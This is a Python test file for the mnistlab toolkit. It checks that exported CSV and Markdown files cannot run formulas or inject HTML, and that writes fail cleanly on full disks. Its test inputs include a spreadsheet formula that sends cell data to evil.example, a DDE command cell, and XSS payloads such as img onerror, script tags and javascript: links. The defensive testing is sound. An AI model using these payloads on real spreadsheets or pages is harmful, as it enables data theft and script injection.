"""What mnistlab writes is safe to open and reads back exactly: CSV tables never hand a spreadsheet a formula,
Markdown pages never turn a user's text into HTML, links or images, and mnistlab's own readers of those files get
the original text back."""

from __future__ import annotations

import csv
import html.parser
import io
import json
import re
import subprocess

import numpy as np
import pytest

from mnistlab import datasets
from mnistlab.fileio import (
    FORMULA_STARTS,
    markdown_text,
    read_cell,
    read_table_dicts,
    read_table_rows,
    table_cell,
    write_table,
)

# Cells a spreadsheet would run (OWASP's list and its variants), and text that must come back unchanged.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "'=already quoted",
    "''+twice",
]
PLAIN = ["plain", "", "'", "''", "'quoted", "a,b", 'say "hi"', "multi\nline", "T-shirt/top", "1e5", "-"]


def spreadsheet_cells(path) -> list[str]:
    """Every cell of a CSV file as a spreadsheet reads it."""
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


NUMBER = re.compile(r"-?\d+(\.\d*)?([eE][-+]?\d+)?")  # a negative number is a number, not a formula


def assert_no_formula(path) -> None:
    runnable = [
        cell for cell in spreadsheet_cells(path) if cell[:1] in FORMULA_STARTS and not NUMBER.fullmatch(cell)
    ]
    assert not runnable, f"{path}: cells a spreadsheet would run as formulas: {runnable}"


@pytest.mark.parametrize("text", FORMULAS + PLAIN)
def test_a_cell_is_neutralised_and_read_back_exactly(tmp_path, text):
    path = write_table(tmp_path / "t.csv", [[text, 1.5, -3], {"x": -1}], ["x", "y", "z"])
    assert_no_formula(path)
    assert read_cell(table_cell(text)) == text
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(read_table_rows(f))
    assert rows == [["x", "y", "z"], [text, "1.5", "-3"], ["-1", "", ""]]  # numbers are written as numbers
    with open(path, newline="", encoding="utf-8") as f:
        assert next(read_table_dicts(f)) == {"x": text, "y": "1.5", "z": "-3"}


def test_a_header_cell_is_neutralised_too(tmp_path):
    path = write_table(tmp_path / "t.csv", [[1]], ["=evil"])
    assert_no_formula(path)
    with open(path, newline="", encoding="utf-8") as f:
        assert read_table_dicts(f).fieldnames == ["=evil"]


NAMES = ["=cmd|' /C calc'!A0", "+SUM(1)", "-minus", "@at", "plain"]


@pytest.fixture
def hostile_classes(tmp_path, blobs):
    X, y = blobs(75, 5)
    train = datasets.Dataset(X, y, NAMES, "hostile", "train")
    return train, datasets.export(train, tmp_path / "data", "npz")


def test_an_image_folder_s_labels_csv_has_no_formula_and_loads_back(hostile_classes, tmp_path):
    train, _ = hostile_classes
    folder = datasets.export(train, tmp_path / "png", "png")
    assert_no_formula(folder / "labels.csv")
    back = datasets.load(folder, classes=NAMES)
    assert back.classes == NAMES and np.array_equal(back.labels, train.labels)
    inferred = datasets.load(folder)  # class names read from the manifest itself
    assert sorted(inferred.classes) == sorted(NAMES)
    assert [inferred.classes[k] for k in inferred.labels] == [NAMES[k] for k in train.labels]


def test_health_tables_have_no_formula_and_the_review_reads_them_back(hostile_classes, tmp_path):
    from mnistlab.serve.review import read_findings, read_per_image
    from mnistlab.workflows.health import health

    train, data = hostile_classes
    out = tmp_path / "health"
    health(data, checks="duplicates,outlier,odd", out=out, gallery=0)
    for name in ("per_image.csv", "findings.csv"):
        assert_no_formula(out / name)
    with open(out / "per_image.csv", newline="", encoding="utf-8") as f:
        labels = [row["label"] for row in read_table_dicts(f)]
    assert labels == [NAMES[k] for k in train.labels]
    splits = {"train": datasets.load(data)}
    flagged, _ = read_per_image(out / "per_image.csv", splits)  # labels compared with the data's: all equal
    assert len(flagged) == len(train)
    read_findings(out / "findings.csv", splits)


# Text a user chose that a Markdown renderer would turn into HTML, links, images, mentions or layout.
HOSTILE_MARKDOWN = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "![track](http://evil.example/pixel.png)",
    "<javascript:alert(1)>",
    "<http://evil.example>",
    "www.evil.example",
    "me@evil.example",
    "**bold** _em_ ~~gone~~ `code`",
    "a | b",
    "# heading",
    "line\nbreak <b>x</b>",
    "sep\u2028<i>x</i>\u2029y\x85z",
    "&lt;entity&gt; &amp;",
    "[ref]: http://evil.example",
    "\\<img src=x>",
    "$x^2$ :smile: @someone",
]


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)


def rendered(markdown: str, renderer: str) -> _Tags:
    if renderer == "commonmark":
        markdown_it = pytest.importorskip("markdown_it")
        page = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)
    else:
        python_markdown = pytest.importorskip("markdown")
        page = python_markdown.markdown(markdown, extensions=["tables"])
    parser = _Tags()
    parser.feed(page)
    return parser


LAYOUT_TAGS = {
    "h1",
    "h2",
    "h3",
    "p",
    "ul",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "code",
}  # the page's own


def assert_only_layout(markdown: str, texts: list[str]) -> None:
    for renderer in ("commonmark", "python-markdown"):
        page = rendered(markdown, renderer)
        extra = [(tag, attrs) for tag, attrs in page.tags if tag not in LAYOUT_TAGS or attrs]
        assert not extra, f"{renderer} rendered {extra}"
        if renderer == "commonmark":  # the text itself shows as written (line breaks as their codes)
            shown = "".join(page.text)
            for text in texts:
                visible = "".join(f"\\u{ord(c):04x}" if c in "\n\u2028\u2029\x85" else c for c in text)
                assert visible in shown


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
def test_markdown_text_is_shown_as_written(text):
    assert_only_layout(
        f"- before {markdown_text(text)} after\n\n| a |\n|---|\n| {markdown_text(text)} |\n", [text]
    )


def test_a_model_card_shows_every_recorded_text_as_text():
    from mnistlab.reports.pages import model_card_text, side_evaluation_text

    names = HOSTILE_MARKDOWN[:10]
    report = {name: {"recall": 0.5, "precision": 0.5, "f1-score": 0.5} for name in names}
    report["macro avg"] = {"f1-score": 0.5, "recall": 0.5}
    evaluation = {"accuracy": 0.5, "report": report, "most_confused": [(names[0], names[1], 3)]}
    config = {
        "model": "softmax",
        "data": "[data](javascript:alert(1))",
        "classes": names,
        "params": {"note": "<img src=x>"},
        "data_source": {"train": {"spec": "![x](http://evil.example/x.png)", "rows": "<b>9</b>"}},
        "machine": {"cpu": "<script>cpu</script>"},
    }
    metrics = {"evaluation": evaluation, "splits": {"train": "<i>split</i>"}}
    card = model_card_text(config, metrics)
    assert_only_layout(card, [*names, config["data"], "<img src=x>", "<script>cpu</script>"])
    record = {
        "run": "<img src=run>",
        "data": {"spec": "[s](javascript:x)", "path": "<img src=path>", "rows": 3, "sha256": "<b>"},
        "evaluation": evaluation,
        "figures": ["<img src=fig>"],
    }
    assert_only_layout(
        side_evaluation_text(config, record), ["<img src=run>", "<img src=path>", "<img src=fig>"]
    )


def test_a_model_card_written_by_evaluate_escapes_the_class_names(hostile_classes, tmp_path):
    from mnistlab.workflows import evaluate_run, train_model

    markdown_names = [
        "<img src=x onerror=alert(1)>",
        "[a](javascript:alert(1))",
        "![p](http://evil.example/p)",
    ]
    X, y = hostile_classes[0].images[:60], hostile_classes[0].labels[:60] % 3
    data = datasets.export(
        datasets.Dataset(X, y, markdown_names, "<b>toy</b>", "train"), tmp_path / "md", "npz"
    )
    out = tmp_path / "run"
    train_model(data, "naive-bayes", test_fraction=0.3, out=out, verbose=0)
    evaluate_run(out)
    assert_only_layout((out / "model_card.md").read_text(encoding="utf-8"), markdown_names)


def test_the_graph_comparison_table_escapes_names(tmp_path):
    from mnistlab.workflows.graphs import _write_comparison

    row = {"source": "<img src=x>", "method": "a|b", "images": 3, "verdict": "[v](javascript:x)"}
    _write_comparison([row], tmp_path)
    assert_only_layout(
        (tmp_path / "graph_compare.md").read_text(), ["<img src=x>", "a|b", "[v](javascript:x)"]
    )
    assert_no_formula(tmp_path / "graph_compare.csv")


def test_every_csv_writer_goes_through_write_table():
    """The class, not the example: no module of the product opens a CSV writer of its own."""
    from pathlib import Path

    import mnistlab

    root = Path(mnistlab.__file__).parent
    writers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "fileio.py" and ("csv.writer" in path.read_text() or "DictWriter" in path.read_text())
    ]
    assert writers == []
    readers = [  # and every reader of a table mnistlab wrote reads its cells back through fileio
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "fileio.py"
        and ("csv.reader" in path.read_text() or "csv.DictReader" in path.read_text())
    ]
    assert readers == []


def test_text_is_read_back_from_a_stringio_too():
    buffer = io.StringIO()
    csv.writer(buffer).writerow([table_cell("=1"), table_cell("-x")])
    assert next(read_table_rows(io.StringIO(buffer.getvalue()))) == ["=1", "-x"]


# Text that Python's str.splitlines, JavaScript or a UTF-8 encoder would trip on, and other odd text.
ODD_REASONS = [
    "line\u2028separator",
    "paragraph\u2029separator",
    "next\x85line",
    "\x0bvertical\x0cfeed\x1cfile\x1dgroup\x1erecord",
    "cr\rlf\ncrlf\r\n",
    "nul\x00tab\t",
    "lone \ud800 surrogate \udfff",
    "emoji \U0001f600 and RTL \u202e override",
    '"quoted" \\ backslash {"json": [1]}',
    "'=1+1",
    "",
    "x" * 500,
]


@pytest.fixture
def toy_splits():
    rng = np.random.default_rng(0)
    images = rng.integers(0, 256, (12, 28, 28), dtype=np.uint8)
    labels = np.arange(12) % 3
    classes = ["zero", "one\u2028two", "x\u2029y"]  # class names may hold line separators (category Z)
    return {"train": datasets.Dataset(images, labels, classes, "toy", "train")}


def test_decisions_read_back_exactly_what_was_written(tmp_path, toy_splits):
    from mnistlab.datasets.fixes import read_decisions, record_decision, start_decisions

    path = tmp_path / "decisions.jsonl"
    start_decisions(path, toy_splits)
    for index, reason in enumerate(ODD_REASONS):
        record_decision(path, "train", index, "relabel", label="one\u2028two", reason=reason)
    decided, superseded = read_decisions(path, toy_splits)
    assert superseded == 0
    assert [decided["train", i].reason for i in range(len(ODD_REASONS))] == ODD_REASONS
    assert all(decided["train", i].label == "one\u2028two" for i in range(len(ODD_REASONS)))
    raw = path.read_bytes()
    assert raw.count(b"\n") == 1 + len(ODD_REASONS)  # one line each
    assert len(raw.decode("utf-8").splitlines()) == 1 + len(ODD_REASONS)  # for any other reader too
    start_decisions(path, toy_splits)  # resumed: the header still reads


def test_a_decisions_file_an_older_version_wrote_with_raw_separators_still_reads(tmp_path, toy_splits):
    """Lines end at \\n only: U+2028 written raw inside a string (as before) does not split a line."""
    import json

    from mnistlab.datasets.fixes import header, read_decisions

    path = tmp_path / "decisions.jsonl"
    entry = {"split": "train", "index": 3, "action": "drop", "reason": "a\u2028b\u2029c\x85d"}
    lines = [json.dumps(header(toy_splits), ensure_ascii=False), json.dumps(entry, ensure_ascii=False)]
    path.write_bytes(("\n".join(lines) + "\n").encode())
    decided, _ = read_decisions(path, toy_splits)
    assert decided["train", 3].reason == "a\u2028b\u2029c\x85d"


def test_the_review_page_and_data_fix_take_a_reason_with_a_line_separator(tmp_path, toy_splits, capsys):
    testclient = pytest.importorskip("fastapi.testclient")
    from mnistlab.cli.main import main
    from mnistlab.serve.app import create_review_app

    data = datasets.export(toy_splits["train"], tmp_path / "data", "npz")
    findings = tmp_path / "findings.csv"
    findings.write_text(
        "kind,splits,indices,labels,value\noutlier,train,4,one,3.2\noutlier,train,5,two,3.1\n"
    )
    decisions = tmp_path / "decisions.jsonl"
    page = testclient.TestClient(create_review_app(data, findings, decisions), base_url="http://localhost")
    for item, reason in enumerate(("see\u2028this", "and\x85that\u2029too")):
        assert (
            page.post("/decide", json={"item": item, "action": "drop", "reason": reason}).status_code == 200
        )
    assert page.get("/items").status_code == 200
    reopened = testclient.TestClient(
        create_review_app(data, findings, decisions), base_url="http://localhost"
    )
    assert reopened.get("/items").status_code == 200
    out = tmp_path / "clean"
    args = ["data", "fix", str(data), "--decisions", str(decisions), "--format", "npz", "--out", str(out)]
    assert main(args) == 0, capsys.readouterr().err
    import json

    reasons = [c["reason"] for c in json.loads((out / "fixes.json").read_text())["changes"]]
    assert reasons == ["see\u2028this", "and\x85that\u2029too"]


@pytest.fixture
def fix_inputs(tmp_path, blobs):
    from mnistlab.datasets.fixes import record_decision, start_decisions

    X, y = blobs(12)
    data = datasets.export(datasets.Dataset(X, y, ["a", "b", "c"], "toy", "train"), tmp_path / "data", "npz")
    decisions = tmp_path / "decisions.jsonl"
    start_decisions(decisions, datasets.load_splits(data))
    record_decision(decisions, "train", 1, "drop", reason="smudge")
    return data, decisions


@pytest.mark.parametrize("fmt", ["npz", "png", "csv"])
def test_data_fix_never_replaces_a_users_own_fixes_json(tmp_path, fix_inputs, capsys, fmt):
    from mnistlab.cli.main import main

    data, decisions = fix_inputs
    out = tmp_path / "clean"
    out.mkdir()
    (out / "fixes.json").write_text("my own notes\n")
    args = ["data", "fix", str(data), "--decisions", str(decisions), "--format", fmt, "--out", str(out)]
    assert main(args) == 1
    err = capsys.readouterr().err
    assert f"{out / 'fixes.json'}: exists and was not written by an export of 'toy'" in err
    assert "--overwrite" in err and "Traceback" not in err
    assert (out / "fixes.json").read_text() == "my own notes\n"
    assert sorted(p.name for p in out.iterdir()) == ["fixes.json"]  # refused before anything was written
    assert main([*args, "--overwrite"]) == 0  # asked: replaced
    assert "smudge" in (out / "fixes.json").read_text()
    assert main(args) == 0, capsys.readouterr().err  # its own fixes.json: a fix again replaces it


def test_data_fix_refuses_a_link_named_fixes_json(tmp_path, fix_inputs):
    from mnistlab.datasets.fixes import write_fixed
    from mnistlab.errors import DataFormatError

    data, decisions = fix_inputs
    out = tmp_path / "clean"
    out.mkdir()
    (out / "fixes.json").symlink_to(tmp_path / "nowhere")
    with pytest.raises(DataFormatError, match="was not written by an export"):
        write_fixed(data, decisions, out, "npz")


# ----------------------------------------------------------------------------------- runs claimed, faults kept


@pytest.fixture
def toy_file(tmp_path, blobs):
    X, y = blobs(90)
    return datasets.export(datasets.Dataset(X, y, ["a", "b", "c"], "toy", "train"), tmp_path / "data", "npz")


@pytest.mark.parametrize("overwrite", [False, True])
def test_a_second_training_into_a_claimed_folder_fails_at_once(toy_file, tmp_path, monkeypatch, overwrite):
    """Two trainings into one folder at the same time: the second fails before it trains, the first saves."""
    import threading

    from mnistlab.errors import RunError
    from mnistlab.workflows import train as train_workflow

    out = tmp_path / "run"
    started, release = threading.Event(), threading.Event()
    real = train_workflow.datasets.train_and_test

    def held(*args, **kwargs):  # the first training reads its data, then waits until the second has tried
        if not started.is_set():
            started.set()
            release.wait(timeout=600)  # a hang guard only; released as soon as the second is refused
        return real(*args, **kwargs)

    monkeypatch.setattr(train_workflow.datasets, "train_and_test", held)
    results = []

    def first():
        results.append(
            train_workflow.train_model(toy_file, "naive-bayes", test_fraction=0.3, out=out, verbose=0)
        )

    thread = threading.Thread(target=first)
    thread.start()
    try:
        assert started.wait(timeout=600)
        with pytest.raises(RunError, match="another training is writing a run there now"):
            train_workflow.train_model(
                toy_file, "naive-bayes", test_fraction=0.3, out=out, overwrite=overwrite, verbose=0
            )
    finally:
        release.set()
        thread.join()
    assert len(results) == 1 and (out / "config.json").is_file()
    assert sorted(p.name for p in out.iterdir() if p.name.startswith(".")) == []  # no lock file left


@pytest.mark.slow  # an end-to-end path of several seconds: in make test, not make test-fast
def test_two_train_commands_started_together_never_both_succeed(toy_file, tmp_path, tmp_home):
    import os
    import subprocess
    import sys

    out = tmp_path / "run"
    command = [sys.executable, "-m", "mnistlab.cli.main", "train", "--data", str(toy_file), "--model"]
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    procs = [
        subprocess.Popen(
            [*command, model, "--test-fraction", "0.3", "--out", str(out)],
            env=env,
            stderr=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        for model in ("naive-bayes", "logreg")
    ]
    finished = [(p.wait(timeout=600), p.stderr.read()) for p in procs]
    codes = sorted(code for code, _ in finished)
    assert codes == [0, 1], finished
    refused = next(err for code, err in finished if code == 1)
    assert "another training is writing a run there now" in refused or "already holds a run" in refused
    assert "Traceback" not in refused
    saved = json.loads((out / "config.json").read_text())["model"]
    winner = ("naive-bayes", "logreg")[[code for code, _ in finished].index(0)]
    assert saved == winner  # the run that reported success is the one on disk


def test_the_claim_is_let_go_when_the_process_dies(tmp_path):
    """A killed training leaves no claim that blocks the next one (the lock is the system's, not a marker)."""
    import os
    import subprocess
    import sys

    from mnistlab import runs

    out = tmp_path / "run"
    code = f"from mnistlab import runs; import os; claim = runs.claim_folder({str(out)!r})\n"
    code += "claim.__enter__(); os._exit(9)  # killed while it holds the folder"
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    assert subprocess.run([sys.executable, "-c", code], env=env, timeout=300).returncode == 9
    assert (out / ".training.lock").exists()  # left by the dead process
    with runs.claim_folder(out):  # not refused
        pass
    assert list(out.iterdir()) == []  # and the dead one's lock file is gone


def _no_space_inside(monkeypatch, folder):
    """Writes into ``folder`` fail with ENOSPC after a few bytes, as on a full disk; elsewhere they work."""
    import errno
    from pathlib import Path

    import skops.io

    def full(path) -> bool:
        return Path(path).resolve().is_relative_to(folder.resolve())

    real_bytes, real_text, real_dump = Path.write_bytes, Path.write_text, skops.io.dump

    def write_bytes(self, data):
        if full(self):
            real_bytes(self, b"PARTIAL")
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_bytes(self, data)

    def write_text(self, *args, **kwargs):
        if full(self):
            real_bytes(self, b"PARTIAL")
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_text(self, *args, **kwargs)

    def dump(obj, file, *args, **kwargs):
        if full(file):
            real_bytes(Path(file), b"PARTIAL")
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_dump(obj, file, *args, **kwargs)

    monkeypatch.setattr(Path, "write_bytes", write_bytes)
    monkeypatch.setattr(Path, "write_text", write_text)
    monkeypatch.setattr(skops.io, "dump", dump)


@pytest.mark.parametrize("model", ["mlp", "naive-bayes"])
def test_a_full_disk_at_the_end_of_training_keeps_the_model_elsewhere(
    toy_file, tmp_path, tmp_home, monkeypatch, model
):
    import tempfile

    from mnistlab import runs
    from mnistlab.errors import RunNotSavedError
    from mnistlab.workflows import train_model

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    full = tmp_path / "full"
    full.mkdir()
    _no_space_inside(monkeypatch, full)
    params = {"epochs": 1, "threads": 1} if model == "mlp" else {}
    with pytest.raises(RunNotSavedError, match="No space left on device") as caught:
        train_model(toy_file, model, test_fraction=0.3, params=params, out=full / "run", verbose=0)
    error = caught.value
    assert not (full / "run").exists()  # no empty or partial run folder left
    assert error.saved_in is not None and error.saved_in.parent == tmp_path / "tmp"
    assert str(error.saved_in) in str(error)
    monkeypatch.undo()
    kept = runs.load_run(error.saved_in)
    X = datasets.load(toy_file).images
    assert np.array_equal(kept.estimator.predict(X), error.estimator.predict(X))


def test_a_full_disk_everywhere_keeps_the_model_on_the_error(
    toy_file, tmp_path, tmp_home, monkeypatch, capsys
):
    import tempfile

    from mnistlab.cli.main import main
    from mnistlab.errors import RunNotSavedError
    from mnistlab.workflows import train_model

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    _no_space_inside(monkeypatch, tmp_path)  # the run folder, the temporary folder and mnistlab's home
    with pytest.raises(RunNotSavedError, match="could not be saved elsewhere either") as caught:
        train_model(toy_file, "naive-bayes", test_fraction=0.3, out=tmp_path / "run", verbose=0)
    assert caught.value.saved_in is None and hasattr(caught.value.estimator, "predict")
    assert set(caught.value.save_args) >= {"model", "data", "classes", "metrics"}
    args = ["train", "--data", str(toy_file), "--model", "naive-bayes", "--test-fraction", "0.3"]
    assert main([*args, "--out", str(tmp_path / "run")]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: ") and err.count("\n") == 1 and "No space left on device" in err
    assert not (tmp_path / "run").exists()
    assert [p for p in tmp_path.rglob("*") if "unsaved" in p.name or p.name.endswith(".tmp")] == []


def _limited(code: str, limit: int, tmp_path) -> subprocess.CompletedProcess:
    """Run Python ``code`` in a process whose files may grow to ``limit`` bytes (RLIMIT_FSIZE): a write past it
    fails with EFBIG, as on a file system's own size limit."""
    import os
    import sys

    setup = f"import resource, sys; resource.setrlimit(resource.RLIMIT_FSIZE, ({limit}, {limit}))\n"
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), "TMPDIR": str(tmp_path / "tmp")}
    (tmp_path / "tmp").mkdir(exist_ok=True)
    return subprocess.run(
        [sys.executable, "-c", setup + code], env=env, capture_output=True, text=True, timeout=600
    )


@pytest.mark.parametrize("fmt", ["csv", "npz", "idx", "kaggle-csv"])
def test_an_export_past_the_file_size_limit_is_one_line_and_leaves_nothing(toy_file, tmp_path, fmt):
    out = tmp_path / "export"
    code = f"from mnistlab.cli.main import main; sys.exit(main(['data', 'export', {str(toy_file)!r}, '--format', {fmt!r}, '--out', {str(out)!r}]))"
    done = _limited(code, 4096, tmp_path)
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr and done.stderr.count("\n") == 1
    assert done.stderr.startswith(f"error: {out}/") and "File too large" in done.stderr
    assert "nothing half-written is left" in done.stderr
    assert [p.name for p in out.rglob("*") if p.name.endswith(".tmp")] == []


def test_a_training_past_the_file_size_limit_says_so_and_leaves_no_partial_files(toy_file, tmp_path):
    out = tmp_path / "run"
    args = ["train", "--data", str(toy_file), "--model", "mlp", "--epochs", "1", "--threads", "1"]
    args += ["--test-fraction", "0.3", "--out", str(out)]
    code = f"from mnistlab.cli.main import main; sys.exit(main({args!r}))"
    done = _limited(code, 64 << 10, tmp_path)  # the weights are larger; the JSON files fit
    assert done.returncode == 1, done.stderr
    err = done.stderr.strip().splitlines()[-1]
    assert "Traceback" not in done.stderr and "SafetensorError" not in done.stderr
    assert err.startswith(f"error: {out}: cannot save the run (File too large)")
    assert "could not be saved elsewhere either" in err
    assert not out.exists()
    assert [p for p in tmp_path.rglob("*") if p.name.endswith(".tmp") or "unsaved" in p.name] == []


def test_a_decision_on_a_full_disk_leaves_the_file_readable(tmp_path, toy_splits, monkeypatch):
    import errno

    from mnistlab.datasets import fixes
    from mnistlab.errors import WriteError

    path = tmp_path / "decisions.jsonl"
    fixes.start_decisions(path, toy_splits)
    fixes.record_decision(path, "train", 1, "drop")
    before = path.read_bytes()
    real_write = fixes.os.write
    calls = []

    def half_then_full(fd, data):  # the disk takes part of the line, then is full
        calls.append(1)
        if len(calls) == 1:
            return real_write(fd, data[: len(data) // 2])
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(fixes.os, "write", half_then_full)
    with pytest.raises(WriteError, match=f"{path}: cannot be written \\(No space left on device\\)"):
        fixes.record_decision(path, "train", 2, "relabel", label="zero", reason="a long reason " * 20)
    monkeypatch.undo()
    assert path.read_bytes() == before  # no half line left to run into the next one
    fixes.record_decision(path, "train", 3, "drop")
    decided, _ = fixes.read_decisions(path, toy_splits)
    assert sorted(decided) == [("train", 1), ("train", 3)]


@pytest.fixture(scope="module")
def evaluated_run(tmp_path_factory):
    from mnistlab.workflows import evaluate_run, train_model
    from tests.conftest import make_blobs

    root = tmp_path_factory.mktemp("limited")
    X, y = make_blobs(240)
    data = datasets.export(datasets.Dataset(X, y, ["a", "b", "c"], "toy", "train"), root / "data", "npz")
    run = root / "run"
    train_model(data, "mlp", test_fraction=0.3, params={"epochs": 2, "threads": 1}, out=run, verbose=0)
    evaluate_run(run)
    return data, run


@pytest.mark.parametrize(
    "command",
    [
        ["evaluate", "{run}"],
        ["report", "{run}", "--out", "{run}/report.html"],
        ["export", "{run}", "--onnx"],
        ["data", "export", "{data}", "--format", "png", "--out", "{tmp}/png"],
        ["health", "{data}", "--checks", "duplicates,odd", "--out", "{tmp}/health"],
    ],
    ids=lambda command: " ".join(command[:2]),
)
def test_every_command_past_the_file_size_limit_is_one_line_and_leaves_nothing(
    evaluated_run, tmp_path, command
):
    import hashlib

    data, run = evaluated_run
    if command[0] == "export":
        pytest.importorskip("onnx")
    before = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in run.rglob("*") if p.is_file()}
    args = [part.format(run=run, data=data, tmp=tmp_path) for part in command]
    done = _limited(f"from mnistlab.cli.main import main; sys.exit(main({args!r}))", 2048, tmp_path)
    assert done.returncode == 1, done.stdout + done.stderr
    err = done.stderr.strip().splitlines()[-1]
    assert "Traceback" not in done.stderr and err.startswith("error: ")
    assert err.endswith("cannot be written (File too large); nothing half-written is left"), err
    leftovers = [p for p in (*run.rglob("*"), *tmp_path.rglob("*")) if p.name.endswith((".tmp", ".old"))]
    assert leftovers == []
    after = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in before}
    assert all(after[p] == before[p] for p in before if p.suffix == ".json" or p.suffix == ".html")


def test_the_review_page_says_a_decision_was_not_saved_on_a_full_disk(tmp_path, toy_splits, monkeypatch):
    import errno

    testclient = pytest.importorskip("fastapi.testclient")
    from mnistlab.datasets import fixes
    from mnistlab.serve.app import create_review_app

    data = datasets.export(toy_splits["train"], tmp_path / "data", "npz")
    findings = tmp_path / "findings.csv"
    findings.write_text("kind,splits,indices,labels,value\noutlier,train,4,one,3.2\n")
    decisions = tmp_path / "decisions.jsonl"
    page = testclient.TestClient(create_review_app(data, findings, decisions), base_url="http://localhost")
    before = decisions.read_bytes()

    def full(fd, data):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(fixes.os, "write", full)
    answer = page.post("/decide", json={"item": 0, "action": "drop"})
    assert answer.status_code == 507 and "No space left on device" in answer.json()["detail"]
    monkeypatch.undo()
    assert decisions.read_bytes() == before
    assert page.get("/items").json()["items"][0].get("decision") is None
    assert page.post("/decide", json={"item": 0, "action": "drop"}).status_code == 200  # room again: saved


def test_a_decisions_file_saved_by_an_editor_with_a_bom_and_crlf_still_reads(tmp_path, toy_splits):
    from mnistlab.datasets.fixes import read_decisions, record_decision, start_decisions

    path = tmp_path / "decisions.jsonl"
    start_decisions(path, toy_splits)
    record_decision(path, "train", 2, "drop", reason="smudge\u2028here")
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes().replace(b"\n", b"\r\n"))
    decided, _ = read_decisions(path, toy_splits)
    assert decided["train", 2].reason == "smudge\u2028here"
    record_decision(path, "train", 3, "keep")  # appended after it: both read
    assert sorted(read_decisions(path, toy_splits)[0]) == [("train", 2), ("train", 3)]


@pytest.mark.parametrize("filename", [None, 7, "{path}", "{tmp}", "{parent}"])
def test_a_write_fault_about_the_file_is_a_write_error_naming_it(tmp_path, filename):
    import errno

    from mnistlab.errors import WriteError
    from mnistlab.fileio import writing

    path = tmp_path / "out" / "t.csv"
    named = filename  # None or a descriptor: a write to an open file, taken as about the file
    if isinstance(filename, str):
        named = filename.format(path=path, tmp=tmp_path / "out" / ".t.csv.1.tmp", parent=tmp_path)
    with pytest.raises(WriteError) as caught, writing(path, tmp_path / "out" / ".t.csv.1.tmp"):
        raise OSError(errno.EFBIG, "File too large", named)
    assert caught.value.filename == str(path) and caught.value.errno == errno.EFBIG
    assert str(caught.value) == f"{path}: cannot be written (File too large); nothing half-written is left"
    with pytest.raises(PermissionError), writing(path):  # about another file: passed on as it was
        raise PermissionError(errno.EACCES, "Permission denied", str(tmp_path / "elsewhere"))
    with pytest.raises(FileNotFoundError), writing(path):  # not a write fault
        raise FileNotFoundError(errno.ENOENT, "No such file", str(path))
